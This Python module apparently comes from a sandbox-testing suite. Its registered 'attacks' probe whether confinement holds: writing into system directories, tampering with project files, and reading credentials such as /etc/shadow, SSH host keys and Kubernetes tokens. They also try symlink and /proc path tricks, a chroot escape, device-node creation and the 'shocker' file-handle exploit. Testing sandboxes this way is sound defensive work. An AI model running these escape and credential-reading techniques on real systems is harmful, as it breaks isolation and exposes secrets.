"""Out of the view: writing, reading, links, chroot, devices, file handles."""

from __future__ import annotations

import ctypes
import os
import platform
import stat
import struct
import sys

from .registry import READING, WRITING, attack, first, linux, read, succeeded

TYPE_CHECKING = False
if TYPE_CHECKING:
    from collections.abc import Callable

    from .registry import Facts


@attack(WRITING)
def write_outside(facts: Facts) -> str | None:
    """Create files wherever a path leads."""
    places = ["/", "/etc", "/usr", "/usr/bin", "/usr/lib", "/var", "/var/tmp", "/run", "/home", "/root", "/dev", "/sys"]
    places += [facts["project"], facts["outside"], facts["home"], os.path.dirname(sys.executable), "/proc"]
    return first(_written(os.path.join(place, "bluehook-" + facts["token"])) for place in places)


@attack(WRITING)
def change_project(facts: Facts) -> str | None:
    """Write, truncate, replace, remove, re-time and chmod a project file."""
    path = facts["project_file"]
    if "bluehook" not in read(path):
        return "the project cannot be read, so the attack says nothing"
    tries: dict[str, Callable[[], object]] = {
        "opened for writing": lambda: os.close(os.open(path, os.O_WRONLY | os.O_APPEND)),
        "truncated": lambda: os.truncate(path, 0),
        "reopened for writing": lambda: _reopen(path),
        "removed": lambda: os.unlink(path),
        "renamed": lambda: os.rename(path, path + "2"),
        "replaced": lambda: os.replace(_private(facts, "new"), path),
        "changed in mode": lambda: os.chmod(path, 0o777),
        "changed in owner": lambda: os.chown(path, os.getuid(), os.getgid()),
        "changed in time": lambda: os.utime(path, (1, 1)),
        "given an attribute": lambda: linux("setxattr")(path, "user.bluehook", b"1"),
        "moved with its folder": lambda: os.rename(facts["project"], facts["project"] + "2"),
    }
    return succeeded(tries, "the project's file was ")


@attack(READING)
def read_secrets(facts: Facts) -> str | None:
    """Read another repository, the home directory's files, and the usual credentials."""
    usual = ["/etc/shadow", "/etc/sudoers", "/etc/ssh/ssh_host_rsa_key", "/etc/ssl/private", "/run/secrets", "/var/lib"]
    usual += ["/var/run/secrets/kubernetes.io/serviceaccount/token", "/etc/machine-id", "/proc/keys", "/var/log/syslog"]
    for path in [*facts["secrets"], *facts["home_files"], *usual]:
        if read(path):
            return f"read {path}"
    return None


@attack(READING)
def list_home(facts: Facts) -> str | None:
    """List the home directory and the folder beside the project: only the way to granted paths may show."""
    for folder in (facts["home"], facts["outside"], os.path.dirname(facts["project"])):
        try:
            shown = os.listdir(folder)
        except OSError:
            continue
        extra = [name for name in shown if not any(_leads(os.path.join(folder, name), to) for to in facts["granted"])]
        if extra:
            return "{} shows {}".format(folder, ", ".join(sorted(extra)[:5]))
    return None


@attack(READING)
def link_tricks(facts: Facts) -> str | None:
    """Symbolic and hard links, climbing, magic links of /proc."""
    secret, private = facts["secrets"][0], os.environ["TMPDIR"]
    link = os.path.join(private, "link")
    os.symlink(secret, link)
    ways = [link, "/proc/self/root" + secret, "/proc/1/root" + secret, "/proc/self/cwd/" + "../" * 40 + secret]
    ways += ["/../../.." + secret, "/proc/self/fd/0/../../../.." + secret, "/proc/1/cwd/" + "../" * 40 + secret]
    for way in ways:
        if read(way):
            return f"read the secret through {way}"
    try:
        os.link(facts["project_file"], os.path.join(private, "hard"))
        os.chmod(os.path.join(private, "hard"), 0o666)
        return "made a hard link to a project file and changed it"
    except OSError:
        return None


@attack(READING)
def chroot_escape(facts: Facts) -> str | None:
    """The classic way out of a chroot: make another one, climb from a descriptor kept outside it."""
    os.mkdir(os.path.join(os.environ["TMPDIR"], "jail"))
    kept = os.open("/", os.O_RDONLY)
    try:
        os.chroot(os.path.join(os.environ["TMPDIR"], "jail"))
    except OSError:
        return None
    os.fchdir(kept)
    os.chdir("../" * 60)
    os.chroot(".")
    return "left through chroot" if read(facts["secrets"][0]) else "chroot is allowed"


@attack(READING)
def device_nodes(facts: Facts) -> str | None:
    """Make and open devices that hold the host's disks and memory."""
    for major, minor in ((8, 0), (253, 0), (254, 0), (1, 1), (1, 11)):
        for kind in (stat.S_IFBLK, stat.S_IFCHR):
            path = os.path.join(os.environ["TMPDIR"], f"node-{major}-{minor}-{kind}")
            try:
                os.mknod(path, 0o666 | kind, os.makedev(major, minor))
                os.close(os.open(path, os.O_RDONLY))
            except OSError:
                continue
            return f"made and opened a device {major}:{minor}"
    for name in ("mem", "kmem", "kmsg", "sda", "vda", "nvme0n1", "fuse", "kvm", "net/tun", "loop-control", "tty0"):
        if os.path.exists("/dev/" + name) and os.access("/dev/" + name, os.R_OK):
            return f"/dev/{name} is there"
    return None


@attack(READING)
def file_handles(facts: Facts) -> str | None:
    """Open a file by its handle, which no mount hides (the "shocker" exploit)."""
    handle = ctypes.create_string_buffer(struct.pack("=II", 128, 0) + b"\0" * 128)
    mount = ctypes.c_int()
    name_to, open_by = {"x86_64": (303, 304)}.get(platform.machine(), (264, 265))
    libc = ctypes.CDLL(None, use_errno=True)
    arguments = (ctypes.c_int(-100), facts["project_file"].encode(), handle, ctypes.byref(mount), ctypes.c_int(0))
    if libc.syscall(ctypes.c_long(name_to), *arguments) < 0:
        # A handle of the root directory of ext4 and xfs: inode 2, generation 0.
        handle = ctypes.create_string_buffer(struct.pack("=IIII", 8, 1, 2, 0))
    place = os.open(facts["project"], os.O_RDONLY)
    opened = libc.syscall(ctypes.c_long(open_by), ctypes.c_int(place), handle, ctypes.c_int(os.O_RDONLY))
    return "opened a file by handle" if opened >= 0 else None


def _reopen(path: str) -> None:
    reading = os.open(path, os.O_RDONLY)
    os.close(os.open(f"/proc/self/fd/{reading}", os.O_WRONLY))


def _private(facts: Facts, name: str) -> str:
    path = os.path.join(os.environ["TMPDIR"], name)
    with open(path, "w") as file:
        file.write(facts["token"])
    return path


def _written(path: str) -> str | None:
    try:
        os.close(os.open(path, os.O_CREAT | os.O_WRONLY))
        os.unlink(path)
    except OSError:
        return None
    return "wrote " + path


def _leads(path: str, to: str) -> bool:
    return (to + "/").startswith(path + "/") or (path + "/").startswith(to + "/")
